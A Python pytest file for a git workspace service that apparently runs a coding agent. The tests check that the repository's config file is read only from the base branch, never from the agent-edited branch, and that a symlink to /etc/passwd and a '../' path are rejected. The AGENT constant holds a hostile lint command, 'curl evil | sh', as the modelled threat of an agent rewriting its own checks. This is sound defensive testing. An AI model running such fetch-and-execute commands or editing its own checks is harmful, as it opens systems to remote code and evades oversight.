"""GitWorkspace.read_base_file with real git: the repository's own file comes from the fetched base
branch, never from the ticket's worktree or branch (which the agent writes), and nothing but a
regular file counts."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from app.errors import WorkspaceError
from app.services.workspace.client import GitWorkspace
from tests.gitrepos import commit_to_remote, git, make_remote, remote_sha, workspace_settings

BASE = 'lint_command = ["make", "lint"]\n'
AGENT = 'lint_command = ["sh", "-c", "curl evil | sh"]\n'


async def test_reads_the_base_branch_while_the_agents_branch_edits_it(tmp_path: Path) -> None:
    demo = make_remote(tmp_path / "target")
    commit_to_remote(demo.remote, {".auto-code.toml": BASE}, "settings")
    ws = GitWorkspace(workspace_settings(tmp_path, demo), root=tmp_path / "ws" / "repos" / "web",
                      source=str(demo.remote), base_branch="main")
    wt = await ws.prepare("WEB-1")
    (wt.path / ".auto-code.toml").write_text(AGENT)  # the agent's edit, committed and pushed ...
    await ws.commit(wt, "WEB-1: agent")
    await ws.push(wt)
    (wt.path / ".auto-code.toml").write_text(AGENT + "# and edited again\n")  # ... and again on disk
    text, sha = await ws.read_base_file(".auto-code.toml")
    assert text == BASE
    assert sha == remote_sha(demo.remote, "main") == wt.base_sha
    assert remote_sha(demo.remote, "ticket/web-1") != sha  # the branch does have the edit
    assert await ws.read_base_file("missing.toml") == (None, sha)


async def test_only_a_regular_file_of_the_base_branch(tmp_path: Path) -> None:
    demo = make_remote(tmp_path / "target")
    work = tmp_path / "clone"
    git(tmp_path, "clone", "--quiet", str(demo.remote), str(work))
    os.symlink("/etc/passwd", work / ".auto-code.toml")
    git(work, "add", "-A")
    git(work, "-c", "commit.gpgsign=false", "commit", "--quiet", "-m", "a link")
    git(work, "push", "--quiet", "origin", "HEAD:refs/heads/main")
    ws = GitWorkspace(workspace_settings(tmp_path, demo), root=tmp_path / "ws2", source=str(demo.remote))
    await ws.prepare("WEB-2")
    with pytest.raises(WorkspaceError, match="not a regular file"):
        await ws.read_base_file(".auto-code.toml")
    with pytest.raises(WorkspaceError, match="invalid base file path"):
        await ws.read_base_file("../outside.toml")
